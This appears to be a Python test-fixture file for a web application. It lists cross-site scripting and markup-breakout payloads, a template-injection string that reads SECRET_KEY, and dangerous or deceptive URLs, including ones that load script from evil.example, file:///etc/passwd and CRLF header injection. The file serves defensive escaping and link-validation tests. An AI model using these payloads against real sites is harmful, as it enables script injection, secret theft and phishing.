"""Texts that run as script, break out of markup, or deceive, where they are shown as anything but text."""

MARK = "hostile-mark"
"""The name of every element, attribute and id that the payloads would make."""
XSS = [
    "<script>alert('{m}')</script>",
    "<ScRiPt src=//evil.example/{m}.js></ScRiPt>",
    "<img src=x onerror=alert('{m}')>",
    "<img src=https://evil.example/{m}.png>",
    "<svg onload=alert('{m}')>",
    "<svg><script>alert('{m}')</script></svg>",
    "<svg><animate onbegin=alert('{m}') attributeName=x dur=1s>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert('{m}')>",
    "<iframe src=javascript:alert('{m}')></iframe>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<object data=javascript:alert('{m}')></object>",
    "<embed src=https://evil.example/{m}.swf>",
    "<link rel=stylesheet href=https://evil.example/{m}.css>",
    "<style>@import 'https://evil.example/{m}.css';</style>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/{m}'>",
    "<base href=https://evil.example/{m}/>",
    "<form action=https://evil.example/{m}><button id=hostile-mark>Go</button></form>",
    "<input autofocus onfocus=alert('{m}') id=hostile-mark>",
    "<details open ontoggle=alert('{m}')>",
    "<video><source onerror=alert('{m}')></video>",
    "<audio src=x onerror=alert('{m}')>",
    "<body onload=alert('{m}')>",
    "<marquee onstart=alert('{m}')>",
    "<a href=javascript:alert('{m}') id=hostile-mark>Click</a>",
    "<template><img src=x onerror=alert('{m}')></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<hostile-mark id=hostile-mark>{m}</hostile-mark>",
    "\"><script>alert('{m}')</script>",
    "'><img src=x onerror=alert('{m}')>",
    '" onmouseover="alert(1)" autofocus onfocus="alert(\'{m}\')" x="',
    "' onfocus='alert(1)' autofocus='{m}",
    "` onerror=alert('{m}') `",
    "</textarea><script>alert('{m}')</script>",
    "</title><script>alert('{m}')</script>",
    "</option></select><img src=x onerror=alert('{m}')>",
    "</script><script>alert('{m}')</script>",
    "--><script>alert('{m}')</script><!--",
    "]]><script>alert('{m}')</script>",
    "{{% debug %}}{{{{ settings.SECRET_KEY }}}}{{{{ 7|add:7 }}}}{m}",
    "${{alert('{m}')}}#{{7*7}}",
    "&lt;script&gt;alert('{m}')&lt;/script&gt;",
    "\u003cscript\u003ealert('{m}')\u003c/script\u003e",
    "\uff1cscript\uff1ealert('{m}')\uff1c/script\uff1e",
    "java\tscript:alert('{m}')",
    "[x](javascript:alert('{m}')) ![y](https://evil.example/{m}.png)",
    "\u202e<script>alert('{m}')</script>\u2066",
    "\x00<script>alert('{m}')</script>\x00",
    "\u2028</script>\u2029<script>alert('{m}')</script>",
]
"""Payloads; {m} is where each tells itself from the others."""


def payloads(place: str) -> list[str]:
    """All of them, told apart by their place and number."""
    return [each.format(m=f"{place}{number}") for number, each in enumerate(XSS)]


NEVER_OPENED = {
    "javascript": "javascript:alert(1)//https://a.example/",
    "javascript_tab": "java\tscript:alert(1)",
    "data": "data:text/html,<script>alert(1)</script>",
    "intent": "intent://scan/#Intent;scheme=zxing;package=a.b;end",
    "file": "file:///etc/passwd",
    "blob": "blob:https://a.example/1",
    "userinfo": "https://bank.example@evil.example/",
    "backslash": "https://evil.example\\@bank.example/",
    "control": "https://a.example/\x01x",
    "newline": "https://a.example/\r\nSet-Cookie: a=b",
    "bidi": "https://a.example/\u202egpj.exe",
    "zero_width": "https://ba\u200bnk.example/",
    "full_width_dot": "https://evil\uff0eexample\uff0f@bank.example/",
    "space": "https://a.example/ x",
    "no_host": "https:///x",
    "one_slash": "https:/a.example/",
    "plain_http": "http://a.example/",
    "bad_port": "https://a.example:99999/",
    "endless": "https://a.example/" + "x" * 10_000,
}
"""Addresses that no link may lead to (UR-7)."""
OWN_HOST = ["http://127.0.0.1:1/accounts/logout/", "https://2130706433/", "https://[::ffff:127.0.0.1]/"]
"""Those of the app's own; that they are is known when the page is drawn, and noted nowhere."""
WARNED_OF = ["https://xn--pple-43d.com/", "https://\u0430pple.com/", "https://192.0.2.7/", "https://3221225991/"]
"""Addresses that are opened after a warning."""
